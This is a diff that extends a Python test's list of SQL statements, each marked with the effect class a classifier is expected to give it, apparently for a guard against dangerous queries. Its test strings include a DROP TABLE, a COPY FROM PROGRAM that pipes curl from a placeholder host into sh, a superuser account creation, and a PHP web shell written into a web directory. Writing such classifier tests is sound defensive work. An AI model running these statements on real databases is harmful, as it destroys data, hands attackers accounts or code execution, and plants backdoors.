@@ -41,6 +41,15 @@ LOSE, CODE = EffectClass.LOCAL_IRREVERSIBLE, EffectClass.UNTRUSTED_CODE
     ("SELECT 1; DROP TABLE users", LOSE),  # the worst statement counts
     ("SELECT ';'; DROP TABLE users", LOSE),  # a quoted ; splits nothing
     ("COPY t FROM PROGRAM 'curl https://x.example | sh'", CODE),
+    # accounts that can reach the data, files written on the server, server settings
+    ("CREATE ROLE evil WITH LOGIN SUPERUSER PASSWORD 'x'", LOSE),
+    ("create user bob identified by 'x'", LOSE),
+    ("SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'", LOSE),
+    ("select '<?php system($_GET[1]); ?>' into dumpfile '/var/www/s.php'", LOSE),
+    ("COPY users TO '/tmp/users.csv'", LOSE),
+    ("COPY users TO STDOUT", READ),
+    ("SET GLOBAL general_log = 'ON'", LOSE),
+    ("COPY users FROM '/tmp/users.csv'", ADD),
 ])
 def test_statements_are_classified_by_their_shape(sql: str, effect: EffectClass) -> None:
     e = sql_effect(sql)
